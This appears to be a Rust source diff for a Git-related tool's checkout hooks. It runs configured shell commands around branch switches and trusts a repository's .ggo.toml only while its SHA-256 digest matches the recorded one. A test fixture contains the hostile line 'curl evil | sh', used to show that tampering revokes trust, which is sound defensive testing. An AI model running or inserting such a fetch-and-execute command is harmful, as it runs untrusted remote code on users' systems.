@@ -0,0 +1,250 @@
+//! Commands run around a branch switch: `pre_checkout` and `post_checkout`
+//! under `[hooks]` in the config, followed by the ones in the repository's
+//! own `.ggo.toml`.
+//!
+//! A repository's hooks arrive with whatever is checked out, so they only run
+//! once `ggo hooks trust` has recorded the file's digest, and stop again as
+//! soon as the file changes.
+
+use serde::Deserialize;
+use sha2::{Digest, Sha256};
+use std::path::Path;
+use std::process::Command;
+
+use crate::constants::hooks::REPO_HOOKS_FILE;
+use crate::error::{GgoError, Result};
+
+/// The switch a hook runs for, passed to it as `GGO_*` environment variables
+#[derive(Debug, Clone)]
+pub struct CheckoutEvent<'a> {
+    /// Root of the working tree; hooks run there
+    pub repo_root: &'a Path,
+    /// Branch switched away from (None from a detached HEAD)
+    pub from_branch: Option<&'a str>,
+    pub to_branch: &'a str,
+    /// The branch's commit was checked out with a detached HEAD
+    pub detached: bool,
+}
+
+/// A hook that didn't succeed; the switch itself has already happened
+#[derive(Debug, Clone, PartialEq)]
+pub struct HookFailure {
+    pub command: String,
+    pub reason: String,
+}
+
+/// Hooks section of a repository's `.ggo.toml`
+#[derive(Debug, Default, Deserialize)]
+struct RepoHooksFile {
+    #[serde(default)]
+    hooks: RepoHooks,
+}
+
+/// Commands a repository's `.ggo.toml` adds to the configured ones
+#[derive(Debug, Default, Clone, PartialEq, Deserialize)]
+pub struct RepoHooks {
+    #[serde(default)]
+    pub pre_checkout: Vec<String>,
+    #[serde(default)]
+    pub post_checkout: Vec<String>,
+    /// Lowercase hex SHA-256 of the whole file, compared with the digest
+    /// `ggo hooks trust` recorded (empty without the file)
+    #[serde(skip)]
+    pub digest: String,
+}
+
+/// Whether a repository's hooks may run, going by the digest `ggo hooks
+/// trust` recorded for it
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Trust {
+    Trusted,
+    /// Never trusted, or trust was withdrawn
+    Untrusted,
+    /// Trusted, but the file has changed since
+    Changed,
+}
+
+impl RepoHooks {
+    /// The file adds no commands
+    pub fn is_empty(&self) -> bool {
+        self.pre_checkout.iter().all(|c| c.trim().is_empty())
+            && self.post_checkout.iter().all(|c| c.trim().is_empty())
+    }
+
+    /// Compare the file with the digest trusted for its repository
+    pub fn trust(&self, trusted_digest: Option<&str>) -> Trust {
+        match trusted_digest {
+            Some(digest) if digest == self.digest => Trust::Trusted,
+            Some(_) => Trust::Changed,
+            None => Trust::Untrusted,
+        }
+    }
+}
+
+/// Hooks from `.ggo.toml` in `repo_root` (none without the file)
+pub fn repo_hooks(repo_root: &Path) -> Result<RepoHooks> {
+    let path = repo_root.join(REPO_HOOKS_FILE);
+    let content = match std::fs::read_to_string(&path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(RepoHooks::default()),
+        Err(e) => return Err(e.into()),
+    };
+
+    let file: RepoHooksFile = toml::from_str(&content)
+        .map_err(|e| GgoError::ConfigError(format!("Failed to parse {}: {}", path.display(), e)))?;
+    Ok(RepoHooks {
+        digest: digest(content.as_bytes()),
+        ..file.hooks
+    })
+}
+
+/// Lowercase hex SHA-256 of `bytes`
+fn digest(bytes: &[u8]) -> String {
+    Sha256::digest(bytes)
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect()
+}
+
+/// Run each command through the shell in the repository root, in order, with
+/// `GGO_FROM_BRANCH`, `GGO_TO_BRANCH`, `GGO_REPO` and `GGO_DETACHED` set.
+/// A failing command doesn't stop the ones after it.
+pub fn run(commands: &[String], event: &CheckoutEvent) -> Vec<HookFailure> {
+    commands
+        .iter()
+        .filter_map(|command| run_one(command, event))
+        .collect()
+}
+
+/// Run commands like [`run`], but stop at the first one that fails
+pub fn run_until_failure(commands: &[String], event: &CheckoutEvent) -> Option<HookFailure> {
+    commands.iter().find_map(|command| run_one(command, event))
+}
+
+fn run_one(command: &str, event: &CheckoutEvent) -> Option<HookFailure> {
+    if command.trim().is_empty() {
+        return None;
+    }
+
+    let status = shell(command)
+        .current_dir(event.repo_root)
+        .env("GGO_FROM_BRANCH", event.from_branch.unwrap_or_default())
+        .env("GGO_TO_BRANCH", event.to_branch)
+        .env("GGO_REPO", event.repo_root)
+        .env("GGO_DETACHED", if event.detached { "1" } else { "0" })
+        .status();
+
+    let reason = match status {
+        Ok(status) if status.success() => return None,
+        Ok(status) => status.to_string(),
+        Err(e) => e.to_string(),
+    };
+    Some(HookFailure {
+        command: command.to_string(),
+        reason,
+    })
+}
+
+/// Build a command that runs `command` through the platform shell
+pub fn shell(command: &str) -> Command {
+    if cfg!(windows) {
+        let mut cmd = Command::new("cmd");
+        cmd.args(["/C", command]);
+        cmd
+    } else {
+        let mut cmd = Command::new("sh");
+        cmd.args(["-c", command]);
+        cmd
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_passes_switch_to_hooks() {
+        let dir = tempfile::tempdir().unwrap();
+        let event = CheckoutEvent {
+            repo_root: dir.path(),
+            from_branch: Some("main"),
+            to_branch: "feature/x",
+            detached: false,
+        };
+
+        let failures = run(
+            &[
+                "echo \"$GGO_FROM_BRANCH>$GGO_TO_BRANCH $GGO_DETACHED\" > hook.out".to_string(),
+                "exit 3".to_string(),
+                "echo after >> hook.out".to_string(),
+            ],
+            &event,
+        );
+
+        assert_eq!(failures.len(), 1);
+        assert_eq!(failures[0].command, "exit 3");
+        assert_eq!(
+            std::fs::read_to_string(dir.path().join("hook.out")).unwrap(),
+            "main>feature/x 0\nafter\n"
+        );
+    }
+
+    #[test]
+    #[cfg(unix)]
+    fn test_run_until_failure_stops_at_first_failure() {
+        let dir = tempfile::tempdir().unwrap();
+        let event = CheckoutEvent {
+            repo_root: dir.path(),
+            from_branch: None,
+            to_branch: "main",
+            detached: false,
+        };
+
+        let failure = run_until_failure(
+            &[
+                "true".to_string(),
+                "exit 2".to_string(),
+                "touch ran".to_string(),
+            ],
+            &event,
+        );
+
+        assert_eq!(failure.unwrap().command, "exit 2");
+        assert!(!dir.path().join("ran").exists());
+        assert!(run_until_failure(&["true".to_string()], &event).is_none());
+    }
+
+    #[test]
+    fn test_repo_hooks() {
+        let dir = tempfile::tempdir().unwrap();
+        assert_eq!(repo_hooks(dir.path()).unwrap(), RepoHooks::default());
+        assert!(RepoHooks::default().is_empty());
+
+        std::fs::write(
+            dir.path().join(REPO_HOOKS_FILE),
+            "[hooks]\npre_checkout = [\"make check\"]\npost_checkout = [\"direnv reload\"]\n",
+        )
+        .unwrap();
+        let hooks = repo_hooks(dir.path()).unwrap();
+        assert_eq!(hooks.pre_checkout, vec!["make check"]);
+        assert_eq!(hooks.post_checkout, vec!["direnv reload"]);
+        assert!(!hooks.is_empty());
+        assert_eq!(hooks.digest.len(), 64);
+
+        // Any change to the file changes the digest trust is recorded against
+        std::fs::write(
+            dir.path().join(REPO_HOOKS_FILE),
+            "[hooks]\npre_checkout = [\"make check\"]\npost_checkout = [\"curl evil | sh\"]\n",
+        )
+        .unwrap();
+        let changed = repo_hooks(dir.path()).unwrap();
+        assert_ne!(changed.digest, hooks.digest);
+        assert_eq!(changed.trust(Some(&hooks.digest)), Trust::Changed);
+        assert_eq!(changed.trust(Some(&changed.digest)), Trust::Trusted);
+        assert_eq!(changed.trust(None), Trust::Untrusted);
+
+        std::fs::write(dir.path().join(REPO_HOOKS_FILE), "[hooks\n").unwrap();
+        assert!(repo_hooks(dir.path()).is_err());
+    }
+}